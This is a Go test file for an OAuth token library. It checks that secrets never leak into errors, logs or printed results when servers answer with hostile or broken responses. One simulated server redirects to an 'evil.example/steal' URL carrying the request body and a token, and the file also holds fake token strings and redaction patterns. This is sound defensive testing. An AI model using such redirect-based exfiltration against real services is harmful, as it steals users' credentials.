package flows_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/connectedapplab/connectedapplab/flows"
)

// Secrets a hostile or broken server may throw back at us.
const (
	hostileAT = "00D5g000004bcDE!AQ4AQH0dMHZfz972Szy9xY1xCgkYRrlyGOA2Bp0y7zpBcOnd.ALVjzvv5pJlNsHNzu6ntsQQg"
	hostileRT = "5Aep861TSESvWeug_xvFHRBTTbf_YrTWgEyjBJoKE_hQ3T9dGmzvOy7DJoeN9jM0ys.cD.TkTxLRUV4DhOF2B6"
)

var (
	testKeyOnce sync.Once
	testKeyPEM  []byte
)

func rsaKeyPEM(t *testing.T) []byte {
	testKeyOnce.Do(func() {
		k, err := rsa.GenerateKey(rand.Reader, 2048)
		if err != nil {
			panic(err)
		}
		testKeyPEM = pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(k)})
	})
	return testKeyPEM
}

// secretForms are the ways a secret can show up: as is, query-escaped, in HTTP Basic, and a
// PEM key's base64 lines.
func secretForms(secrets map[string]string) map[string]string {
	out := map[string]string{}
	for name, s := range secrets {
		if s == "" {
			continue
		}
		out[name] = s
		if q := url.QueryEscape(s); q != s {
			out[name+" (query-escaped)"] = q
		}
		if strings.Contains(s, "PRIVATE KEY") {
			for i, line := range strings.Split(s, "\n") {
				if len(line) > 40 && !strings.HasPrefix(line, "-----") {
					out[fmt.Sprintf("%s line %d", name, i)] = line
				}
			}
		}
	}
	return out
}

// outputsOf is every output of a run: the error, its advice, the result printed every way,
// the result and its transcript as JSON, the progress steps, and slog of request and result.
func outputsOf(t *testing.T, req flows.Request, res *flows.Result, err error, steps []string) map[string]string {
	t.Helper()
	out := map[string]string{"progress": strings.Join(steps, "\n")}
	if err != nil {
		out["err"] = err.Error()
		out["advice"] = flows.Advice(err)
		out["err %+v"] = fmt.Sprintf("%+v", err)
		out["err %#v"] = fmt.Sprintf("%#v", err)
		var oe *flows.OAuthError
		if errors.As(err, &oe) {
			b, _ := json.Marshal(oe)
			out["OAuthError"] = string(b) + fmt.Sprintf("%#v", *oe)
		}
		var he *flows.HTTPError
		if errors.As(err, &he) {
			out["HTTPError"] = fmt.Sprintf("%#v", *he)
		}
		var re *flows.RequestError
		if errors.As(err, &re) {
			out["RequestError"] = fmt.Sprintf("%#v", *re)
		}
	}
	for _, verb := range []string{"%v", "%+v", "%#v", "%s"} {
		out["result "+verb] = fmt.Sprintf(verb, res)
		out["*result "+verb] = fmt.Sprintf(verb, *res)
		out["request "+verb] = fmt.Sprintf(verb, req)
		out["&request "+verb] = fmt.Sprintf(verb, &req)
		out["token "+verb] = fmt.Sprintf(verb, res.Token)
	}
	if b, jerr := json.Marshal(res); jerr == nil {
		out["result JSON"] = string(b)
	} else {
		t.Fatalf("result JSON: %v", jerr)
	}
	b, _ := json.Marshal(res.Transcript.Exchanges())
	out["transcript JSON"] = string(b)
	var logBuf bytes.Buffer
	for _, h := range []slog.Handler{slog.NewJSONHandler(&logBuf, nil), slog.NewTextHandler(&logBuf, nil)} {
		slog.New(h).Info("run", "request", req, "result", res, "token", res.Token, "err", err)
	}
	out["slog"] = logBuf.String()
	return out
}

func assertNoSecretIn(t *testing.T, outputs map[string]string, secrets map[string]string) int {
	t.Helper()
	leaks := 0
	for what, text := range outputs {
		for name, s := range secretForms(secrets) {
			if strings.Contains(text, s) {
				leaks++
				t.Errorf("%s leaks the %s: %.600s", what, name, text)
			}
		}
	}
	return leaks
}

// TestHostileResponsesLeakNoSecret runs flows against servers that answer badly or
// maliciously (cut-off JSON, HTML, no access_token, echoing the request) and scans every
// output of every run for every secret (issue 14.2).
func TestHostileResponsesLeakNoSecret(t *testing.T) {
	echoBody := func(ct string, status int) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			w.Header().Set("Content-Type", ct)
			w.WriteHeader(status)
			w.Write(b)
		}
	}
	fixed := func(ct string, status int, body string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			io.ReadAll(r.Body)
			w.Header().Set("Content-Type", ct)
			w.WriteHeader(status)
			io.WriteString(w, body)
		}
	}
	full := `{"access_token":"` + hostileAT + `","refresh_token":"` + hostileRT + `","instance_url":"https://x.my.salesforce.com","id":"https://login.salesforce.com/id/00D/005","token_type":"Bearer","issued_at":"1700000000000","signature":"c2ln"}`
	cases := []struct {
		name    string
		h       http.HandlerFunc
		basic   bool
		want    string // substring of the error
		flowsOf []flows.Flow
	}{
		{"200 JSON cut off after the tokens", fixed("application/json", 200, full[:len(full)-40]), false, "cut off after", nil},
		{"200 JSON cut off inside the access token", fixed("application/json", 200, full[:40]), false, "cut off after", nil},
		{"200 JSON cut off inside the refresh token", fixed("application/json", 200, full[:len(hostileAT)+50]), false, "truncated JSON", nil},
		{"200 HTML with the token in a form", fixed("text/html", 200, `<html><body><form><input type="hidden" name="access_token" value="`+hostileAT+`"><input name="refresh_token" value="`+hostileRT+`"></form></body></html>`), false, "HTML", nil},
		{"200 without access_token", fixed("application/json", 200, `{"refresh_token":"`+hostileRT+`","sid":"`+hostileAT+`","instance_url":"https://x"}`), false, "no access_token", nil},
		{"200 text echoing the body", echoBody("text/plain", 200), false, "", nil},
		{"200 JSON echoing the body", echoBody("application/json", 200), false, "", nil},
		{"200 form echoing the body", echoBody("application/x-www-form-urlencoded", 200), false, "no access_token", nil},
		{"400 HTML echoing the body", echoBody("text/html", 400), false, "400", nil},
		{"500 echoing the body", echoBody("", 500), false, "500", nil},
		{"200 JSON echoing the headers", func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]any{"headers": r.Header, "body": string(b)})
		}, true, "no access_token", nil},
		{"200 echoing the headers as text, cut off", func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			w.Header().Set("Content-Type", "application/json")
			var buf bytes.Buffer
			r.Header.Write(&buf)
			io.WriteString(w, `{"echo":"`+strings.ReplaceAll(buf.String(), "\r\n", " ")+string(b))
		}, true, "cut off", nil},
		{"400 OAuth error quoting the body", func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(400)
			json.NewEncoder(w).Encode(map[string]string{"error": "invalid_request", "error_description": "cannot parse " + string(b) + " token " + hostileAT})
		}, false, "invalid_request", nil},
		{"401 REST error quoting the body", func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(401)
			json.NewEncoder(w).Encode([]map[string]string{{"errorCode": "INVALID_SESSION_ID", "message": string(b)}})
		}, false, "INVALID_SESSION_ID", nil},
		{"302 to a URL holding the body", func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			w.Header().Set("Location", "https://evil.example/steal?"+string(b)+"&t="+hostileAT)
			w.Header().Set("X-Echo", "Bearer "+hostileAT)
			w.WriteHeader(302)
		}, false, "302", nil},
		{"200 with the key and token in headers, body cut", func(w http.ResponseWriter, r *http.Request) {
			io.ReadAll(r.Body)
			w.Header().Set("Set-Cookie", "sid="+hostileAT)
			w.Header().Set("X-Debug", "refresh_token="+hostileRT)
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"access_token":"`+hostileAT)
		}, false, "cut off", nil},
	}
	allFlows := []flows.Flow{flows.UsernamePassword, flows.Refresh, flows.JWTBearer, flows.ClientCredentials, flows.TokenExchange}
	keyPEM := rsaKeyPEM(t)
	runs, leaks := 0, 0
	for _, c := range cases {
		for _, flow := range allFlows {
			t.Run(c.name+"/"+string(flow), func(t *testing.T) {
				srv := httptest.NewServer(c.h)
				defer srv.Close()
				req := passwordRequest(srv.URL)
				req.Flow = flow
				req.RefreshToken = hostileRT
				req.JWTPrivateKeyPEM = keyPEM
				req.SubjectToken = hostileAT
				req.SubjectTokenType = "urn:ietf:params:oauth:token-type:access_token"
				req.Options.ClientAuthBasic = c.basic
				req.Options.ProxyURL = "" // direct
				var steps []string
				res, err := flows.Run(context.Background(), req, func(p flows.Progress) { steps = append(steps, p.Message) })
				if err == nil {
					t.Fatal("no error")
				}
				if res.Err != err {
					t.Fatal("the result does not carry the error")
				}
				if c.want != "" && !strings.Contains(err.Error(), c.want) {
					t.Errorf("error %q does not say %q", err, c.want)
				}
				if strings.Contains(err.Error(), "\n") {
					t.Errorf("error is not one line: %q", err)
				}
				runs++
				leaks += assertNoSecretIn(t, outputsOf(t, req, res, err, steps), map[string]string{
					"client secret": testSecret, "password": testPassword, "security token": testSecToken,
					"password+token": testPassword + testSecToken, "access token": hostileAT, "refresh token": hostileRT,
					"private key":       string(keyPEM),
					"Basic credentials": base64.StdEncoding.EncodeToString([]byte("3MVGclient:" + url.QueryEscape(testSecret))),
				})
				srv.CloseClientConnections()
			})
		}
	}
	t.Logf("hostile responses: %d runs, %d secrets leaked", runs, leaks)
}

// A truncated token response says what happened and what to try.
func TestCutOffTokenResponseSaysSo(t *testing.T) {
	body := `{"access_token":"` + hostileAT + `","instance_url":"https://x`
	_, err := flows.ParseTokenResponse("token", 200, "application/json", []byte(body))
	if err == nil || !errors.Is(err, flows.ErrNotJSON) {
		t.Fatalf("want ErrNotJSON, got %v", err)
	}
	msg := err.Error()
	if !strings.Contains(msg, fmt.Sprintf("the token response was cut off after %d bytes (truncated JSON)", len(body))) ||
		!strings.Contains(msg, "try again") || strings.Contains(msg, hostileAT) {
		t.Fatalf("unclear or leaking: %q", msg)
	}
}

// Every type that holds a secret prints redacted with fmt and slog.
func TestSecretHoldersPrintRedacted(t *testing.T) {
	keyPEM := rsaKeyPEM(t)
	req := flows.Request{Flow: flows.UsernamePassword, LoginURL: "https://login.salesforce.com", ClientID: "3MVGclient",
		ClientSecret: testSecret, Password: testPassword, SecurityToken: testSecToken, JWTPrivateKeyPEM: keyPEM,
		RefreshToken: hostileRT, SubjectToken: hostileAT, SAMLAssertion: "PHNhbWw+c2VjcmV0LWFzc2VydGlvbjwvc2FtbD4",
		Options: flows.Options{ProxyURL: "http://me:proxy-pass-42@proxy.example:3128"}}
	tr := flows.NewTokenResponse(map[string]any{"access_token": hostileAT, "refresh_token": hostileRT, "id_token": "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIwMDUifQ.c2lnbmF0dXJlLXNlY3JldA"})
	res := &flows.Result{Flow: flows.Refresh, Token: tr, RefreshToken: hostileRT}
	cb := &flows.Callback{Params: url.Values{"code": {"aPrxSecretCode0123456789abcdef"}, "access_token": {hostileAT}, "state": {"s"}}, Received: time.Now()}
	type holder struct {
		R  flows.Request
		O  flows.Options
		T  *flows.TokenResponse
		Rs flows.Result
		C  flows.Callback
	}
	vals := []any{req, &req, req.Options, &req.Options, tr, *res, res, cb, *cb, holder{req, req.Options, tr, *res, *cb}}
	out := map[string]string{}
	for i, v := range vals {
		for _, verb := range []string{"%v", "%+v", "%#v", "%s"} {
			out[fmt.Sprintf("value %d %s", i, verb)] = fmt.Sprintf(verb, v)
		}
		var buf bytes.Buffer
		slog.New(slog.NewJSONHandler(&buf, nil)).Info("x", "v", v)
		slog.New(slog.NewTextHandler(&buf, nil)).Info("x", "v", v)
		out[fmt.Sprintf("value %d slog", i)] = buf.String()
	}
	secrets := map[string]string{"client secret": testSecret, "password": testPassword, "security token": testSecToken,
		"private key": string(keyPEM), "refresh token": hostileRT, "access token": hostileAT,
		"SAML assertion": req.SAMLAssertion, "proxy password": "proxy-pass-42", "code": "aPrxSecretCode0123456789abcdef",
		"id token": "c2lnbmF0dXJlLXNlY3JldA"}
	if n := assertNoSecretIn(t, out, secrets); n > 0 {
		return
	}
	// still useful: the non-secret parts are there
	if s := fmt.Sprint(req); !strings.Contains(s, "3MVGclient") || !strings.Contains(s, flows.Redacted) {
		t.Errorf("request prints %q", s)
	}
	if s := fmt.Sprint(tr); !strings.Contains(s, hostileAT[:6]+"…") {
		t.Errorf("token prints %q", s)
	}
}

// RedactText finds secrets by their shape in text that is not JSON or a form.
func TestRedactText(t *testing.T) {
	for in, leaked := range map[string]string{
		`{"access_token":"` + hostileAT:                                                          hostileAT,
		`{"access_token" : "` + hostileAT[:30]:                                                   hostileAT[:30],
		`<input type="hidden" name="refresh_token" value="` + hostileRT:                          hostileRT,
		`grant_type=password&client_secret=s3cr3t-value&password=pw1234`:                         "s3cr3t-value",
		`client_id=x&password=pw123456789&username=u`:                                            "pw123456789",
		`Authorization: Bearer ` + hostileRT:                                                     hostileRT,
		`Authorization: Basic ` + base64.StdEncoding.EncodeToString([]byte("id:secretvalue")):    base64.StdEncoding.EncodeToString([]byte("id:secretvalue")),
		`session ` + hostileAT + ` expired`:                                                      hostileAT,
		`Cookie: sid=` + hostileAT:                                                               hostileAT,
		"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAsecret\n-----END RSA PRIVATE KEY-----": "MIIEowIBAAKCAQEAsecret",
		"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC (cut":                     "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
		`"security_token":"SECTOK12345"`:                                                         "SECTOK12345",
		`"assertion":"eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJ4In0.c2lnbmF0dXJl"`:                        "c2lnbmF0dXJl",
	} {
		if out := flows.RedactText(in); strings.Contains(out, leaked) {
			t.Errorf("RedactText(%q) = %q still holds %q", in, out, leaked)
		}
	}
	// plain prose and Salesforce's own error texts stay as they are
	for _, s := range []string{"invalid_grant: authentication failure", "INVALID_SESSION_ID: Session expired or invalid",
		"Basic authentication is not enabled", "expired access/refresh token", "token_type=Bearer&scope=api refresh_token",
		"grant_type=refresh_token", "the code or assertion expired",
		"POST https://x.example/services/oauth2/token: no answer in time within 500ms", "GET https://x/services/oauth2/revoke: connection refused",
		"set --client-secret (or SF_CLIENT_SECRET)", "https://x/id/token: bad", `{"errorCode":"INVALID_FIELD","message":"No such column"}`} {
		if out := flows.RedactText(s); out != s {
			t.Errorf("RedactText(%q) = %q, want it unchanged", s, out)
		}
	}
}

// errTransport fails every request with an error that quotes the request's body.
type errTransport struct{}

func (errTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	b, _ := io.ReadAll(r.Body)
	return nil, fmt.Errorf("proxy refused %s with body %s", r.URL, b)
}

// A transport error that quotes the request is redacted in the error and in the
// transcript's Error field.
func TestTransportErrorQuotingTheRequestIsRedacted(t *testing.T) {
	req := passwordRequest("https://login.salesforce.com")
	req.Options.Transport = errTransport{}
	res, err := flows.Run(context.Background(), req, nil)
	if err == nil {
		t.Fatal("no error")
	}
	assertNoSecretIn(t, outputsOf(t, req, res, err, nil), map[string]string{"client secret": testSecret,
		"password": testPassword, "security token": testSecToken})
}
